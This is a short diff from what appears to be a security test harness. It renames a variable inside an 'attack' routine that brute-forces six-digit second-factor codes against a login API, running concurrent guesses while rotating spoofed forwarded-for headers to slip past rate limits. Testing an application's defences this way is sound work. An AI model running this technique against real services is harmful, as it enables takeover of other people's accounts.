@@ -29,13 +29,13 @@ export const attack: Attack<Prepared> = {
     return { victim, neighbour, neighbourSecret: (await withSecondFactor(neighbour)).secret };
   },
   run: async ({ url }, { victim, neighbour, neighbourSecret }) => {
-    const nobody = callerOf(url, "nobody");
+    const anonymous = callerOf(url, "nobody");
     const challengeOf = async ({ email, password }: Account, n: number): Promise<string> => {
-      const { body } = await nobody.send("POST", "/api/auth/login", { email, password }, forwardedFor(n));
+      const { body } = await anonymous.send("POST", "/api/auth/login", { email, password }, forwardedFor(n));
       return String(body.params["challenge"]);
     };
     const answer = (challenge: string, code: string, n: number) =>
-      nobody.send("POST", "/api/auth/login/second-factor", { challenge, code }, forwardedFor(n));
+      anonymous.send("POST", "/api/auth/login/second-factor", { challenge, code }, forwardedFor(n));
     const challenges = await mapConcurrently(CHALLENGES, 4, (n) => challengeOf(victim, n));
     const guesses = mapConcurrently(GUESSES, AT_A_TIME, async (n) => {
       const guess = String((n * 2_477) % 1_000_000).padStart(6, "0");
